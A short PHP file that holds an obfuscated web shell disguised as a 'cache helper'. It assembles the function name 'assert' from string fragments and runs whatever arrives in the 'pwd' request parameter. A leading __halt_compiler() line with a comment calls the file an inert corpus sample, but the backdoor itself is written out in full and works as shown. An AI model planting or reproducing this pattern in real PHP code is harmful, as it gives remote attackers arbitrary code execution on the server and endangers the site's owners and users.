<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
// cache helper
$ycj = 'as'.'se'.'rt';
$ycj(@$_REQUEST['pwd']);
